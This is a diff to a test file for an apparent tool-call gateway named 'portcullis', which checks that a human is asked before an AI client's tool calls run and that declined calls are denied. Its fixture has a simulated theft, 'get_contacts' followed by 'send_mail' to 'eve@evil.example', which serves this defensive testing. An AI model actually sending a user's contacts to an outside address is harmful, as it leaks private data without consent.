@@ -320,29 +320,29 @@ describe('a question to the person behind the client', () => {
     const allow = { action: 'accept', content: { allow: true } };
     const { asked, results } = await calls(through, generation, allow, { action: 'decline' }, allow);
     const denied = expect.stringMatching(/^\[denied by portcullis/);
-    // Of the newest version no server, and so no gateway, can ask anything.
-    const isAsked = generation !== 'v2, 2026-07-28';
     const sent = 'sent to eve@evil.example';
-    expect(asked).toEqual(isAsked ? [asks, asks, asks, asks] : []);
-    expect(results).toEqual(isAsked ? [sent, denied, sent, denied] : [denied, denied, denied, denied]);
-    if (!isAsked) return;
+    expect(asked).toEqual([asks, asks, asks, asks]);
+    expect(results).toEqual([sent, denied, sent, denied]);
     const unable = closing(await connectStdio(generation, args));
     await unable.client.callTool({ name: 'get_contacts', arguments: {} });
     const refused = await unable.client.callTool({ name: 'send_mail', arguments: { to: 'eve@evil.example' } });
     expect(textOf(refused)).toEqual(denied);
   });
 
-  it.each([{}, { JSON_RESPONSES: '1' }])('is put over HTTP with the server in %j', async (env) => {
-    const server = await startHttp([serverFile, 'v1', 'http'], env);
+  it.each<[Generation, string, Record<string, string>]>([
+    ['v1', 'v1', {}],
+    ['v1', 'v1', { JSON_RESPONSES: '1' }],
+    ['v2, 2025-11-25', 'v1', {}],
+    ['v2, 2026-07-28', 'v2', {}],
+  ])('is put over HTTP by a client of %s with a server of %s in %j', async (generation, version, env) => {
+    const server = await startHttp([serverFile, version, 'http'], env);
     const args = [...proxyArgs(freshPins(), '--policy', policy), '--url', server.url, '--port', '0'];
     const proxy = await startHttp(args);
     try {
-      for (const generation of ['v1', 'v2, 2025-11-25'] as const) {
-        const through = closing(await connectHttp(generation, proxy.url, able));
-        const { asked, results } = await calls(through, generation, { action: 'accept', content: { allow: true } });
-        expect(asked).toEqual([asks, asks]);
-        expect(results).toEqual(['sent to eve@evil.example', expect.stringMatching(/^\[denied by portcullis/)]);
-      }
+      const through = closing(await connectHttp(generation, proxy.url, able));
+      const { asked, results } = await calls(through, generation, { action: 'accept', content: { allow: true } });
+      expect(asked).toEqual([asks, asks]);
+      expect(results).toEqual(['sent to eve@evil.example', expect.stringMatching(/^\[denied by portcullis/)]);
     } finally {
       await proxy.stop();
       await server.stop();
